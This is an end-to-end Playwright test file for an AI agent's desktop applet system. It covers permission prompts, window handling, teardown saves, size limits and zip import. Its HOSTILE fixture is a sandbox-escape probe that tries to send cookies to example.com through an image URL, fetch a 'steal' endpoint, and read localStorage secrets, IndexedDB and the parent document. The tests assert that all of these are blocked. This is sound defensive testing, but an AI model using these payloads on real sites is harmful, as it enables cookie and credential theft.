"""Applets on the desktop: the agent (scripted LLM) creates an html applet whose button runs
Python in the kernel through the MCP Apps bridge; the user allows it, clicks, sees the result,
moves the window with the keyboard, and finds it again after a reload. Hostile, broken, stuck
and oversized applets are contained, reported back to the agent, and leave the desktop working.
"""

from __future__ import annotations

import json
import re
import time

import pytest
from llmos.applets.panel import ENABLE_COMMAND
from playwright.sync_api import FilePayload, FloatRect, FrameLocator, Locator, Page, expect

from e2e.conftest import wait_ready
from e2e.test_agent import API_KEY, connect, llm, send
from tests.conftest import zip_of
from tests.llm_server import ScriptedLLM, text, tool_calls

__all__ = ["llm"]  # the scripted LLM fixture

# A minimal MCP Apps view, as the agent writes one: JSON-RPC 2.0 over postMessage.
CLIENT = """
let nextId = 1; const pending = new Map();
const send = (m) => parent.postMessage({ jsonrpc: "2.0", ...m }, "*");
addEventListener("message", (e) => {
  const m = e.data; if (e.source !== parent || !m || m.jsonrpc !== "2.0") return;
  if (m.method && m.id !== undefined) return send({ id: m.id, result: {} });
  const w = pending.get(m.id); if (!w) return; pending.delete(m.id);
  m.error ? w.reject(new Error(m.error.message)) : w.resolve(m.result);
});
const rpc = (method, params) => new Promise((resolve, reject) => {
  const id = nextId++; pending.set(id, { resolve, reject }); send({ id, method, params });
});
const ready = rpc("ui/initialize", { protocolVersion: "2026-01-26",
  appInfo: { name: "test", version: "1" }, appCapabilities: {} })
  .then((r) => { send({ method: "ui/notifications/initialized", params: {} }); return r; });
"""

SQUARES = (
    "<!doctype html><html><head><meta charset='utf-8'><title>Squares</title></head><body>"
    "<button id='go'>Compute squares</button><p id='out'>nothing yet</p><script>"
    + CLIENT
    + """
document.getElementById("go").onclick = async () => {
  await ready;
  const r = await rpc("tools/call", { name: "execute_python",
    arguments: { code: "print(*[n * n for n in range(1, 6)])" } });
  document.getElementById("out").textContent = r.content.map((c) => c.text).join(" ").trim();
};
</script></body></html>"""
)

# Saves its draft through its files tool when the desktop closes it (ui/resource-teardown), and
# only then answers; the first save, by the button, is where the user allows 'files'.
KEEPER = (
    "<!doctype html><html><head><meta charset='utf-8'><title>Keeper</title></head><body>"
    "<button id='save'>Save</button><p id='out'>unsaved</p><script>"
    + CLIENT.replace(
        "if (m.method && m.id !== undefined) return send({ id: m.id, result: {} });",
        "if (m.method && m.id !== undefined) return onRequest(m);",
    )
    + """
const save = (content) => rpc("tools/call", { name: "write_file",
  arguments: { path: "draft.txt", content } });
document.getElementById("save").onclick = async () => {
  await ready;
  const r = await save("draft 1");
  document.getElementById("out").textContent = r.content.map((c) => c.text).join(" ");
};
async function onRequest(m) {
  if (m.method === "ui/resource-teardown") await save("saved on close");
  send({ id: m.id, result: {} });
}
</script></body></html>"""
)

HOSTILE = """<!doctype html><html><head><meta charset='utf-8'></head><body><pre id='report'>
</pre><button id='away'>Leave</button><script>
const found = [];
const probe = async (name, fn) => {
  try { found.push(name + ": GOT " + String(await fn()).slice(0, 80)); }
  catch (e) { found.push(name + ": blocked (" + (e && e.name) + ")"); }
};
(async () => {
  await probe("fetch", () => fetch("http://example.com/steal").then((r) => r.status));
  await probe("fetch-home", () => fetch("http://127.0.0.1:1/steal").then((r) => r.status));
  await probe("parent.document", () => parent.document.title);
  await probe("top.location", () => {
    top.location = "http://example.com/"; return top.location.href; });
  await probe("localStorage", () => localStorage.getItem("llmos-secrets"));
  await probe("indexedDB", () => new Promise((ok, no) => {
    const r = indexedDB.open("llmos");
    r.onsuccess = () => ok("opened"); r.onerror = () => no(r.error); }));
  await probe("cookie", () => document.cookie);
  await probe("image", () => new Promise((ok, no) => {
    const img = new Image();
    img.onload = () => ok("loaded"); img.onerror = () => no(new Error("blocked"));
    img.src = "http://example.com/pixel.png?k=" + encodeURIComponent(document.cookie); }));
  await probe("popup", () => {
    const w = open("http://example.com/"); if (!w) throw new TypeError("null"); return "opened"; });
  document.getElementById("report").textContent = found.join("\\n") + "\\nDONE";
})();
document.getElementById("away").onclick = () => { location.href = "http://example.com/away"; };
</script></body></html>"""

# A view that never initializes: the host must send it no JSON-RPC request (MCP Apps: nothing
# before ui/notifications/initialized), while the desktop's watchdog pings keep arriving.
SHY = """<!doctype html><html><body><p id='seen'>none</p><script>
let rpc = 0, other = 0;
addEventListener("message", (e) => {
  if (e.source !== parent) return;
  e.data && e.data.jsonrpc === "2.0" ? rpc++ : other++;
  document.getElementById("seen").textContent = "rpc " + rpc + " other " + other;
});
</script></body></html>"""

MAXIMISED = re.compile(r"\bmaximised\b")
SYNTAX_ERROR = "<!doctype html><html><body><p>broken</p><script>let x = ;</script></body></html>"
SPIN = "<!doctype html><html><body><p>spin</p><script>while (true) {}</script></body></html>"


def window(page: Page, name: str) -> Locator:
    return page.locator(f".applet-window[data-applet='{name}']:not([hidden])")


def frame(page: Page, name: str) -> FrameLocator:
    return page.frame_locator(f".applet-window[data-applet='{name}']:not([hidden]) iframe")


def tool_results(llm: ScriptedLLM) -> list[str]:
    return [m["content"] for m in llm.requests[-1]["body"]["messages"] if m["role"] == "tool"]


def create(name: str, html: str, **extra: object) -> tuple[str, str]:
    fields = {"name": name, "title": name.title(), "description": name, "html": html}
    return ("create_applet", json.dumps(fields | extra))


def zipped(name: str, files: dict[str, str]) -> FilePayload:
    """A zip of ``files`` as the file picker gets it."""
    return {"name": name, "mimeType": "application/zip", "buffer": zip_of(files)}


def move_and_resize(app: Page, win: Locator) -> FloatRect:
    """Move and resize a window with the keyboard and the mouse, maximise and restore it;
    returns where it ended."""
    head = win.locator(".applet-head")
    # keyboard: move by 2 steps, maximise and restore
    before = win.bounding_box()
    head.focus()
    head.press("ArrowRight")
    head.press("ArrowRight")
    head.press("Shift+ArrowDown")
    after = win.bounding_box()
    assert before
    assert after
    assert after["x"] - before["x"] == pytest.approx(32, abs=1)
    assert after["height"] - before["height"] == pytest.approx(16, abs=1)
    # the mouse: drag the title bar, drag the corner grip
    app.mouse.move(after["x"] + 60, after["y"] + 8)
    app.mouse.down()
    app.mouse.move(after["x"] + 110, after["y"] + 28, steps=4)
    app.mouse.up()
    grip = win.locator(".applet-grip").bounding_box()
    assert grip
    app.mouse.move(grip["x"] + 7, grip["y"] + 7)
    app.mouse.down()
    app.mouse.move(grip["x"] + 47, grip["y"] + 7, steps=4)
    app.mouse.up()
    dragged = win.bounding_box()
    assert dragged
    assert (dragged["x"] - after["x"], dragged["y"] - after["y"]) == pytest.approx((50, 20), abs=1)
    assert dragged["width"] - after["width"] == pytest.approx(40, abs=1)
    after = dragged
    head.press("Enter")
    expect(win).to_have_class(MAXIMISED)
    head.press("Enter")
    expect(win).not_to_have_class(MAXIMISED)

    return after


def test_agent_builds_an_applet_the_user_uses_and_reload_keeps_it(
    app: Page, llm: ScriptedLLM
) -> None:
    connect(app, llm)
    spec = create("squares", SQUARES, icon="🔢", permissions=["execute_python"])
    llm.queue(text("1. Create the applet."), tool_calls([spec]), text("Your applet is ready."))
    send(app, "make me an applet that computes squares in Python")

    win = window(app, "squares")
    expect(win).to_be_visible()
    expect(app.locator("#chat-log")).to_contain_text("Your applet is ready.")
    report = "\n".join(tool_results(llm))
    assert "rendered on the desktop, no errors" in report, report
    painted = float(win.get_attribute("data-painted-ms") or "nan")
    assert painted < 2000, painted
    expect(app.locator(".applet-card-row[data-name='squares']")).to_be_visible()

    # first use of execute_python asks; the user denies: the applet gets the refusal, no Python
    # runs, and this window does not ask again
    frame(app, "squares").locator("#go").click()
    ask = app.locator("#applet-ask")
    expect(ask).to_be_visible()
    expect(ask).to_contain_text("execute_python")
    app.locator("#applet-ask-deny").click()
    out = frame(app, "squares").locator("#out")
    expect(out).to_contain_text("only when you allow it")
    frame(app, "squares").locator("#out").evaluate("(p) => { p.textContent = 'again'; }")
    frame(app, "squares").locator("#go").click()
    expect(out).to_contain_text("only when you allow it")
    expect(ask).to_be_hidden()
    assert "1 4 9" not in out.inner_text()

    # reopened, it asks again; the user allows; the result shows in the applet
    win.get_by_role("button", name="Close squares").click()
    app.locator(".applet-card-row[data-name='squares'] .applet-card").click()
    expect(win).to_be_visible()
    frame(app, "squares").locator("#go").click()
    expect(ask).to_be_visible()
    app.locator("#applet-ask-allow").click()
    expect(frame(app, "squares").locator("#out")).to_contain_text("1 4 9 16 25")

    after = move_and_resize(app, win)

    # reload: the window is back where it was, and the permission is remembered
    app.reload()
    wait_ready(app)
    win = window(app, "squares")
    expect(win).to_be_visible()
    frame(app, "squares").locator("#go").click()
    expect(frame(app, "squares").locator("#out")).to_contain_text("1 4 9 16 25")
    expect(app.locator("#applet-ask")).to_be_hidden()
    restored = win.bounding_box()
    assert restored
    assert restored["x"] == pytest.approx(after["x"], abs=1)

    # close with the mouse: it stays closed after a reload
    win.get_by_role("button", name="Close squares").click()
    expect(win).to_have_count(0)
    app.reload()
    wait_ready(app)
    expect(app.locator(".applet-card-row[data-name='squares']")).to_be_visible()
    expect(window(app, "squares")).to_have_count(0)


def test_a_closed_applet_saves_its_state_before_its_frame_goes(app: Page, llm: ScriptedLLM) -> None:
    connect(app, llm)
    spec = create("keeper", KEEPER, permissions=["files"])
    llm.queue(text("1. Create it."), tool_calls([spec]), text("Made."))
    send(app, "make an applet that keeps a draft")
    expect(app.locator("#chat-log")).to_contain_text("Made.")
    frame(app, "keeper").locator("#save").click()
    app.locator("#applet-ask-allow").click()
    expect(frame(app, "keeper").locator("#out")).to_contain_text("Wrote draft.txt")
    window(app, "keeper").get_by_role("button", name="Close keeper").click()
    expect(window(app, "keeper")).to_have_count(0)  # gone for the user at once
    # the view got ui/resource-teardown, saved through its tool, answered; then its frame went
    path = "user/applets/keeper/data/draft.txt"
    read = """(p) => {
      window.llmos.request('fs.read', {path: p}).then((r) => { window.draft = r.result?.text; });
      return window.draft === 'saved on close';
    }"""  # not async: wait_for_function takes a promise as a truthy answer
    app.wait_for_function(read, arg=path, polling=100)
    expect(app.locator(".applet-window[data-applet='keeper']")).to_have_count(0)
    # deleted while open: closed at once, without a teardown that could write into its folder
    app.locator(".applet-card-row[data-name='keeper'] .applet-card").click()
    expect(window(app, "keeper")).to_be_visible()
    app.once("dialog", lambda dialog: dialog.accept())
    app.locator(".applet-card-row[data-name='keeper'] .applet-more").click()
    app.locator("#applet-menu [data-action='delete']").click()
    expect(app.locator(".applet-card-row[data-name='keeper']")).to_have_count(0)
    expect(app.locator(".applet-window[data-applet='keeper']")).to_have_count(0)
    listed = app.evaluate("window.llmos.request('applets.list', {})")["result"]["applets"]
    assert "keeper" not in [a["name"] for a in listed]


def test_hostile_broken_and_stuck_applets_leave_the_desktop_working(
    app: Page, llm: ScriptedLLM
) -> None:
    connect(app, llm)
    llm.queue(
        text("1. Make two applets."),
        tool_calls([create("hostile", HOSTILE)]),
        tool_calls([create("broken", SYNTAX_ERROR)]),
        tool_calls([create("shy", SHY)]),
        text("All made."),
    )
    send(app, "make three applets")
    expect(app.locator("#chat-log")).to_contain_text("All made.")
    # three watchdog pings reached the view that never initialized, and no JSON-RPC did
    expect(frame(app, "shy").locator("#seen")).to_have_text(re.compile(r"other ([3-9]|\d\d)"))
    assert frame(app, "shy").locator("#seen").inner_text().startswith("rpc 0 "), "rpc before init"

    # hostile: every probe fails, nothing left the origin (the guard fixture), the page is intact
    report = frame(app, "hostile").locator("#report")
    expect(report).to_contain_text("DONE")
    found = report.inner_text()
    for probe in ("fetch", "fetch-home", "parent.document", "localStorage", "indexedDB", "image"):
        assert f"{probe}: blocked" in found, found
    assert "GOT opened" not in found, found
    assert API_KEY not in found, found
    assert app.url.startswith("http://127.0.0.1"), app.url
    # navigating its own frame elsewhere is blocked before any request; the window says so
    window(app, "hostile").locator(".applet-title").click()  # brings it to the front
    frame(app, "hostile").locator("#away").click()
    expect(window(app, "hostile").locator(".applet-problem")).to_contain_text("navigate away")

    # a syntax error shows in the window and reaches the agent
    expect(window(app, "broken").locator(".applet-status")).to_contain_text("SyntaxError")
    results = "\n".join(tool_results(llm))
    assert "SyntaxError" in results, results
    assert "Created applet 'hostile'" in results, results

    # an endless loop: the desktop still answers the keyboard, then the window is closed
    llm.queue(text("1. Spin."), tool_calls([create("spin", SPIN)]), text("Spun."))
    send(app, "make an applet that spins")
    expect(window(app, "spin")).to_be_visible()
    box = app.locator("#console-in")
    started = time.monotonic()
    box.press_sequentially("6*7")
    expect(box).to_have_value("6*7")
    typed_s = time.monotonic() - started
    assert typed_s < 1.5, typed_s
    expect(window(app, "spin")).to_have_count(0, timeout=15_000)
    expect(app.locator("#notice")).to_contain_text("stopped responding")
    expect(window(app, "broken").locator(".applet-problem")).to_contain_text("froze")
    expect(app.locator("#chat-log")).to_contain_text("Spun.")
    assert "stopped responding" in "\n".join(tool_results(llm))
    # the kernel shared the frozen process: it moved to a new frame and answers again
    assert app.evaluate("window.llmos.exec('6*7')")["result"] == "42"

    # the desktop still works: the card menu duplicates and deletes (after asking)
    app.locator(".applet-card-row[data-name='broken'] .applet-more").click()
    app.locator("#applet-menu [data-action='duplicate']").click()
    expect(app.locator(".applet-card-row[data-name='broken-copy']")).to_be_visible()
    app.once("dialog", lambda dialog: dialog.accept())
    app.locator(".applet-card-row[data-name='broken-copy'] .applet-more").click()
    app.locator("#applet-menu [data-action='delete']").click()
    expect(app.locator(".applet-card-row[data-name='broken-copy']")).to_have_count(0)


def test_oversized_applets_and_zips_get_clear_messages(app: Page) -> None:
    big = "<!doctype html><p>" + "x" * 10_000_000 + "</p>"
    manifest = {
        "name": "huge",
        "title": "Huge",
        "version": 1,
        "created_by": "user",
        "kind": "html",
        "entry": "index.html",
    }
    for path, body in (("manifest.json", json.dumps(manifest)), ("index.html", big)):
        reply = app.evaluate(
            "([path, text]) => window.llmos.request('fs.write', {path, text})",
            [f"user/applets/huge/{path}", body],
        )
        assert reply["ok"], reply
    # the user imports a zip of that same 10 MB applet: refused, saying the limit
    huge = {"manifest.json": json.dumps(manifest | {"name": "huge-zip"}), "index.html": big}
    app.locator("#applet-zip").set_input_files(files=[zipped("huge.zip", huge)])
    expect(app.locator("#applet-state")).to_contain_text("nothing was imported")
    # the one already on disk is listed; opening it says why it cannot open
    app.reload()
    wait_ready(app)
    app.locator(".applet-card-row[data-name='huge'] .applet-card").click()
    problem = window(app, "huge").locator(".applet-problem")
    expect(problem).to_contain_text("at most 5 MB")
    # rename from the card's menu: the card and its open window follow
    app.once("dialog", lambda dialog: dialog.accept("huge-renamed"))
    app.locator(".applet-card-row[data-name='huge'] .applet-more").click()
    app.locator("#applet-menu [data-action='rename']").click()
    expect(app.locator(".applet-card-row[data-name='huge-renamed']")).to_be_visible()
    expect(window(app, "huge-renamed").locator(".applet-problem")).to_contain_text("at most 5 MB")
    expect(window(app, "huge")).to_have_count(0)
    # a Panel applet in a build without Panel says how to enable it, never a blank frame
    app.locator(".applet-card-row[data-name='loan-calculator'] .applet-card").click()
    expect(frame(app, "loan-calculator").locator("body")).to_contain_text(ENABLE_COMMAND)
    # an imported applet's .svg icon shows as an image on its card
    icon = (
        "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 8 8'>"
        "<circle cx='4' cy='4' r='4'/></svg>"
    )
    dot = {
        "manifest.json": json.dumps(manifest | {"name": "dot", "icon": "dot.svg"}),
        "index.html": "<!doctype html><p>dot</p>",
        "dot.svg": icon,
    }
    app.locator("#applet-zip").set_input_files(files=[zipped("dot.zip", dot)])
    glyph = app.locator(".applet-card-row[data-name='dot'] img.applet-card-icon")
    expect(glyph).to_have_attribute("src", re.compile(r"^data:image/svg\+xml;base64,"))
    assert glyph.evaluate("(img) => img.complete && img.naturalWidth") > 0
    # export and import round trip of a system applet copy through the card menu
    app.locator(".applet-card-row[data-name='memory-explorer'] .applet-more").click()
    with app.expect_download() as download:
        app.locator("#applet-menu [data-action='export']").click()
    app.locator("#applet-zip").set_input_files(download.value.path())
    expect(app.locator(".applet-card-row[data-name='memory-explorer-2']")).to_be_visible()
